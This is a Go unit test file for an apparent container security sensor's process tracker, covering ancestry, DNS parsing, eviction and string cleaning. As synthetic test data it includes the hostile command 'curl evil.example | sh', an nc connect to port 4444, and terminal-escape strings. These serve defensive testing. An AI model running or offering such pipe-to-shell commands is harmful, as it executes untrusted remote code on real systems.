package track

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwarkhq/bulwark/internal/sensor/probe"
	"github.com/bulwarkhq/bulwark/internal/sensor/wire"
)

var epoch = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

const (
	hostNS      = 4026531841
	containerNS = 4026532999
)

// events builds synthetic probe events with a clock that moves a
// millisecond per event.
type events struct{ now time.Time }

func newEvents() *events { return &events{now: epoch} }

func (e *events) tick() time.Time {
	e.now = e.now.Add(time.Millisecond)
	return e.now
}

func (e *events) fork(parent, child uint32, comm string, mnt uint32) probe.Event {
	return probe.Event{Kind: probe.Fork, Time: e.tick(), PID: child, TGID: child, PPID: parent, Comm: comm, MntNS: mnt}
}

func (e *events) exec(pid, ppid uint32, exe string, mnt uint32, args ...string) probe.Event {
	comm := exe[strings.LastIndexByte(exe, '/')+1:]
	return probe.Event{Kind: probe.Exec, Time: e.tick(), PID: pid, TGID: pid, PPID: ppid, Comm: comm, Filename: exe, Args: args, MntNS: mnt,
		Stdin: probe.FilePipe, Stdout: probe.FilePipe, Stderr: probe.FileChar}
}

func (e *events) exit(pid, ppid uint32) probe.Event {
	return probe.Event{Kind: probe.Exit, Time: e.tick(), PID: pid, TGID: pid, PPID: ppid}
}

func (e *events) dns(pid, ppid uint32, comm, name string, mnt uint32) probe.Event {
	msg := []byte{0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		msg = append(msg, byte(len(l)))
		msg = append(msg, l...)
	}
	msg = append(msg, 0, 0, 1, 0, 1)
	return probe.Event{Kind: probe.DNS, Time: e.tick(), PID: pid, TGID: pid, PPID: ppid, Comm: comm, DNS: msg, MntNS: mnt}
}

// after returns e's clock moved on by d, for an event after a delay.
func (e *events) after(d time.Duration, ev probe.Event) probe.Event {
	e.now = e.now.Add(d)
	ev.Time = e.now
	return ev
}

// feed converts evs in order and returns the wire events, each checked
// against the wire schema.
func feed(t *testing.T, tr *Tracker, c *wire.Container, evs ...probe.Event) []wire.Event {
	t.Helper()
	var out []wire.Event
	for _, ev := range evs {
		w, ok := tr.Convert(ev, c)
		if !ok {
			continue
		}
		if err := w.Validate(); err != nil {
			t.Fatalf("Convert(%+v) = an invalid event: %v", ev, err)
		}
		out = append(out, w)
	}
	return out
}

// newTracker returns a tracker whose proc root is empty, so that nothing
// comes from the host's /proc.
func newTracker(t *testing.T, cfg Config) *Tracker {
	cfg.ProcRoot = t.TempDir()
	return New(cfg)
}

type ancestor struct {
	PID  uint32
	Exe  string
	Args string
}

func lineage(ps []wire.Process) []ancestor {
	var out []ancestor
	for _, p := range ps {
		out = append(out, ancestor{p.PID, p.Exe, strings.Join(p.Args, " ")})
	}
	return out
}

func TestExecAncestry(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	c := &wire.Container{ID: "c1", Name: "web"}
	got := feed(t, tr, c,
		e.fork(1, 50, "containerd-shim", hostNS),
		e.exec(50, 1, "/usr/bin/containerd-shim-runc-v2", hostNS, "containerd-shim-runc-v2", "-id", "c1"),
		e.fork(50, 100, "containerd-shim", containerNS),
		e.exec(100, 50, "/usr/sbin/nginx", containerNS, "nginx", "-g", "daemon off;"),
		e.fork(100, 200, "nginx", containerNS),
		e.exec(200, 100, "/bin/sh", containerNS, "sh", "-c", "curl evil.example | sh"),
		e.fork(200, 300, "sh", containerNS),
		e.exec(300, 200, "/usr/bin/curl", containerNS, "curl", "evil.example"),
		e.dns(300, 200, "curl", "Evil.Example", containerNS),
	)
	if len(got) != 5 {
		t.Fatalf("got %d events, want 5 (4 exec, 1 dns)", len(got))
	}
	curl := got[3]
	wantProcess := wire.Process{PID: 300, PPID: 200, Comm: "curl", Exe: "/usr/bin/curl", Args: []string{"curl", "evil.example"},
		Stdin: "pipe", Stdout: "pipe", Stderr: "char", Start: curl.Time}
	if diff := cmp.Diff(wantProcess, curl.Process); diff != "" {
		t.Errorf("exec process (-want +got):\n%s", diff)
	}
	// The walk stops after the shim: the first ancestor outside the
	// container's mount namespace.
	want := []ancestor{
		{200, "/bin/sh", "sh -c curl evil.example | sh"},
		{100, "/usr/sbin/nginx", "nginx -g daemon off;"},
		{50, "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -id c1"},
	}
	if diff := cmp.Diff(want, lineage(curl.Ancestors)); diff != "" {
		t.Errorf("exec ancestry (-want +got):\n%s", diff)
	}
	if curl.Container != c || curl.Kind != wire.KindExec {
		t.Errorf("exec event kind %q container %v, want exec in %v", curl.Kind, curl.Container, c)
	}

	dns := got[4]
	if dns.Kind != wire.KindDNS || dns.DNS == nil || *dns.DNS != (wire.DNSQuery{Name: "evil.example", Type: "A"}) {
		t.Errorf("dns event = %q %+v, want a dns query for evil.example A", dns.Kind, dns.DNS)
	}
	if dns.Process.Exe != "/usr/bin/curl" || strings.Join(dns.Process.Args, " ") != "curl evil.example" {
		t.Errorf("dns process exe %q args %q, want curl's from its exec", dns.Process.Exe, dns.Process.Args)
	}
	if diff := cmp.Diff(want, lineage(dns.Ancestors)); diff != "" {
		t.Errorf("dns ancestry (-want +got):\n%s", diff)
	}
}

func TestForkInheritsProgram(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	got := feed(t, tr, nil,
		e.exec(10, 1, "/usr/bin/python3", hostNS, "python3", "app.py"),
		e.fork(10, 11, "python3", hostNS),
		e.dns(11, 10, "worker", "db.internal", hostNS),
	)
	p := got[1].Process
	if p.PID != 11 || p.Comm != "worker" || p.Exe != "/usr/bin/python3" || strings.Join(p.Args, " ") != "python3 app.py" {
		t.Errorf("forked child's dns process = %+v, want pid 11, comm worker, python3's program", p)
	}
	if diff := cmp.Diff([]ancestor{{10, "/usr/bin/python3", "python3 app.py"}}, lineage(got[1].Ancestors)); diff != "" {
		t.Errorf("ancestry (-want +got):\n%s", diff)
	}
	// The rename reaches the table: the child's own children see it.
	if en, _ := tr.Lookup(11); en.Process.Comm != "worker" {
		t.Errorf("table comm of 11 = %q, want worker", en.Process.Comm)
	}
}

func TestHostAncestryIsBounded(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	var evs []probe.Event
	for pid := uint32(2); pid < 40; pid++ {
		evs = append(evs, e.fork(pid-1, pid, "sh", hostNS), e.exec(pid, pid-1, "/bin/sh", hostNS, "sh"))
	}
	got := feed(t, tr, nil, evs...)
	last := got[len(got)-1]
	if len(last.Ancestors) != wire.MaxAncestors {
		t.Fatalf("%d ancestors, want %d", len(last.Ancestors), wire.MaxAncestors)
	}
	for i, a := range last.Ancestors {
		if want := uint32(38 - i); a.PID != want {
			t.Errorf("ancestor %d is %d, want %d", i, a.PID, want)
		}
	}
}

func TestExitRacingDNS(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{ExitDelay: time.Second})
	feed(t, tr, nil,
		e.fork(1, 20, "sh", hostNS),
		e.exec(20, 1, "/usr/bin/dig", hostNS, "dig", "example.com"),
		e.exit(20, 1),
	)
	got := feed(t, tr, nil, e.dns(20, 1, "dig", "example.com", hostNS))
	if len(got) != 1 || got[0].Process.Exe != "/usr/bin/dig" {
		t.Fatalf("dns just after exit = %+v, want dig's process from the table", got)
	}
	// After the delay the process is gone: the event only has what the
	// kernel said.
	got = feed(t, tr, nil, e.after(2*time.Second, e.dns(20, 1, "dig", "example.com", hostNS)))
	if len(got) != 1 || got[0].Process.Exe != "" || got[0].Process.Comm != "dig" {
		t.Fatalf("dns after the exit delay = %+v, want comm only", got)
	}
}

func TestExitedParentKeptForChildren(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{ExitDelay: time.Second})
	feed(t, tr, nil,
		e.exec(100, 1, "/usr/sbin/nginx", hostNS, "nginx"),
		e.fork(100, 200, "nginx", hostNS),
		e.exec(200, 100, "/bin/sh", hostNS, "sh", "-c", "curl x &"),
		e.fork(200, 300, "sh", hostNS),
		e.exec(300, 200, "/usr/bin/curl", hostNS, "curl", "x"),
		e.exit(200, 100), // the shell exits first; curl is reparented
	)
	got := feed(t, tr, nil, e.after(time.Minute, e.dns(300, 1, "curl", "x.example", hostNS)))
	if diff := cmp.Diff([]ancestor{{200, "/bin/sh", "sh -c curl x &"}, {100, "/usr/sbin/nginx", "nginx"}}, lineage(got[0].Ancestors)); diff != "" {
		t.Errorf("ancestry after the parent exited (-want +got):\n%s", diff)
	}
	if got[0].Process.PPID != 1 {
		t.Errorf("process ppid = %d, want the kernel's (1)", got[0].Process.PPID)
	}
	if s := tr.Stats(); s.Processes != 3 || s.Exited != 1 {
		t.Errorf("stats %+v, want 3 processes of which 1 exited", s)
	}
	// When curl goes, so does the shell it kept.
	feed(t, tr, nil, e.exit(300, 1), e.after(time.Minute, e.exit(999, 1)))
	if en, ok := tr.Lookup(200); ok {
		t.Errorf("exited shell still in the table: %+v", en)
	}
	if s := tr.Stats(); s.Processes != 1 || s.Exited != 0 {
		t.Errorf("stats %+v, want only nginx left", s)
	}
}

func TestPIDReuse(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{ExitDelay: time.Second})
	feed(t, tr, nil,
		e.exec(10, 1, "/usr/bin/old", hostNS, "old"),
		e.fork(10, 20, "old", hostNS),
		e.exit(20, 10),
		// PID 20 is reused by an unrelated process before the delay ran
		// out: the fork replaces the exited entry.
		e.exec(30, 1, "/usr/bin/new", hostNS, "new"),
		e.fork(30, 20, "new", hostNS),
	)
	got := feed(t, tr, nil, e.exec(20, 30, "/bin/ls", hostNS, "ls"))
	if diff := cmp.Diff([]ancestor{{30, "/usr/bin/new", "new"}}, lineage(got[0].Ancestors)); diff != "" {
		t.Errorf("ancestry of a reused pid (-want +got):\n%s", diff)
	}
	// An exec for a PID whose entry exited (its new fork was lost) starts
	// a new process, and its parent comes from the kernel's PPID.
	feed(t, tr, nil, e.exit(20, 30))
	got = feed(t, tr, nil, e.exec(20, 10, "/bin/cat", hostNS, "cat"))
	if diff := cmp.Diff([]ancestor{{10, "/usr/bin/old", "old"}}, lineage(got[0].Ancestors)); diff != "" {
		t.Errorf("ancestry of an exec on an exited pid (-want +got):\n%s", diff)
	}
	// Old 20's exit delay passing must not remove the new 20.
	feed(t, tr, nil, e.after(time.Minute, e.exit(999, 1)))
	if en, ok := tr.Lookup(20); !ok || en.Exited || en.Process.Exe != "/bin/cat" {
		t.Errorf("Lookup(20) = %+v, %t; want the running cat", en, ok)
	}
}

func TestEviction(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{MaxProcesses: 10, ExitDelay: time.Hour})
	for pid := uint32(100); pid < 110; pid++ {
		feed(t, tr, nil, e.fork(1, pid, "p", hostNS))
	}
	// Exited processes go first, oldest exit first, even within the delay.
	feed(t, tr, nil, e.exit(105, 1), e.exit(103, 1), e.fork(1, 200, "p", hostNS))
	if _, ok := tr.Lookup(103); !ok {
		t.Error("103 evicted before 105, which exited first")
	}
	if _, found := tr.Lookup(105); found {
		t.Error("105 not evicted")
	}
	feed(t, tr, nil, e.fork(1, 201, "p", hostNS))
	if _, found := tr.Lookup(103); found {
		t.Error("103 not evicted")
	}
	// Then the least recently used running process: 100 was used last.
	feed(t, tr, nil, e.dns(100, 1, "p", "a.example", hostNS), e.fork(1, 202, "p", hostNS))
	if _, ok := tr.Lookup(100); !ok {
		t.Error("100 evicted though it was just used")
	}
	if _, found := tr.Lookup(101); found {
		t.Error("101, the least recently used, not evicted")
	}
	for pid := uint32(1000); pid < 2000; pid++ {
		feed(t, tr, nil, e.fork(pid-1, pid, "p", hostNS))
	}
	s := tr.Stats()
	if s.Processes != 10 || s.Evicted != 3+1000 {
		t.Errorf("stats %+v, want 10 processes and 1003 evicted", s)
	}
	if got := len(tr.procs); got != tr.live.n+tr.exited.n+tr.lingering.n {
		t.Errorf("%d processes in the map, %d in the lists", got, tr.live.n+tr.exited.n+tr.lingering.n)
	}
}

func TestDNSDrops(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	response := e.dns(5, 1, "dig", "example.com", hostNS)
	response.DNS[2] |= 0x80
	malformed := e.dns(5, 1, "dig", "example.com", hostNS)
	malformed.DNS = malformed.DNS[:5]
	long := strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + "." + strings.Repeat("d", 55) + ".com"
	cut := e.dns(5, 1, "dig", long, hostNS)
	cut.DNS = cut.DNS[:256]
	got := feed(t, tr, nil, response, malformed, cut)
	if len(got) != 1 || got[0].DNS.Name != long[:63*3+2] || got[0].DNS.Type != "" {
		t.Errorf("got %+v, want only the cut query, with its complete labels and no type", got)
	}
	s := tr.Stats()
	if s.DNSMalformed != 1 || s.DNSNotQuery != 1 || s.DNSTruncated != 1 {
		t.Errorf("stats %+v, want one malformed, one response, one truncated", s)
	}
}

func TestConnect(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	ev := probe.Event{Kind: probe.Connect, Time: e.tick(), TGID: 7, PPID: 1, Comm: "nc", Remote: netip.MustParseAddrPort("[::ffff:10.0.0.1]:4444")}
	got := feed(t, tr, nil, ev)
	if len(got) != 1 || got[0].Remote != "10.0.0.1:4444" || got[0].Kind != wire.KindConnect {
		t.Fatalf("connect = %+v, want one connect to 10.0.0.1:4444", got)
	}
	ev.Remote = netip.AddrPort{}
	ev.Time = e.tick()
	if got := feed(t, tr, nil, ev, probe.Event{Kind: 99, Time: e.tick()}, probe.Event{Kind: probe.Exec, TGID: 3}); len(got) != 0 {
		t.Errorf("connect without a destination, unknown kind, no time: got %+v, want nothing", got)
	}
	if s := tr.Stats(); s.Invalid != 3 {
		t.Errorf("stats %+v, want 3 invalid", s)
	}
}

func TestHostileStrings(t *testing.T) {
	e := newEvents()
	tr := newTracker(t, Config{})
	manyArgs := make([]string, 300)
	for i := range manyArgs {
		manyArgs[i] = strings.Repeat("x", 20)
	}
	ev := e.exec(9, 1, "/tmp/\x1b[31mevil\xff\n", hostNS, "a\x00b", "\xc3")
	ev.Comm = "bad\x7fname"
	ev.Stdin = 42
	ev.Remote = netip.AddrPortFrom(netip.MustParseAddr("fe80::1").WithZone("eth0"), 22)
	got := feed(t, tr, nil, ev)[0].Process
	want := wire.Process{PID: 9, PPID: 1, Comm: `bad\x7fname`, Exe: "/tmp/\\x1b[31mevil\uFFFD\\x0a", Args: []string{`a\x00b`, "\uFFFD"},
		Stdin: "other", Stdout: "pipe", Stderr: "char", Remote: "[fe80::1]:22", Start: got.Start}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("cleaned process (-want +got):\n%s", diff)
	}

	got = feed(t, tr, nil, e.exec(9, 1, "/bin/x", hostNS, manyArgs...))[0].Process
	if len(got.Args) != 128 || !got.ArgsTruncated {
		t.Errorf("%d args, truncated %t; want 128, truncated", len(got.Args), got.ArgsTruncated)
	}
	big := []string{"a", strings.Repeat("é", 3000), "c"}
	got = feed(t, tr, nil, e.exec(9, 1, "/bin/x", hostNS, big...))[0].Process
	if n := len(strings.Join(got.Args, "")); n > wire.MaxArgBytes || n < wire.MaxArgBytes-1 || !got.ArgsTruncated || len(got.Args) != 2 {
		t.Errorf("args of %d bytes in %d args, truncated %t; want 2 args filling the bound, truncated", n, len(got.Args), got.ArgsTruncated)
	}
}

func TestCleanArgsKeepsCleanSlice(t *testing.T) {
	args := []string{"ls", "-l"}
	got, truncated := cleanArgs(args, false)
	if &got[0] != &args[0] || truncated {
		t.Error("clean arguments within bounds were copied")
	}
}
